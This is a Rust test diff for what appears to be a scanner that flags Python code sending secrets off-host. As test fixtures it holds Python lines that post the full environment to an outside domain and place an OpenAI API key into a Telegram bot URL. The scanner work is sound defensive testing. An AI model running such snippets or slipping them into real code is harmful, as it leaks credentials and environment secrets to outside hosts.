@@ -61,3 +61,17 @@ fn other_keys_are_found_at_the_own_service() {
     let code = "import os, requests\nrequests.post('https://api.harbor-data.io/x', json=dict(os.environ))\n";
     assert_eq!(verdict("homepage: https://harbor-data.io\n", code).verdict, Verdict::Block);
 }
+
+#[test]
+fn token_of_a_bot_goes_to_its_own_messenger_only() {
+    let code = |variable: &str, url: &str| {
+        format!(
+            "import os, requests\nBASE = f\"{url}{{os.environ['{variable}']}}\"\n\
+             requests.post(f'{{BASE}}/sendMessage', json={{'text': 'hi'}})\n"
+        )
+    };
+    let own = verdict("", &code("TELEGRAM_BOT_TOKEN", "https://api.telegram.org/bot"));
+    assert_ne!(own.verdict, Verdict::Block, "{:?}", own.reason());
+    let other = verdict("", &code("OPENAI_API_KEY", "https://api.telegram.org/bot"));
+    assert_ne!(other.verdict, Verdict::Allow);
+}
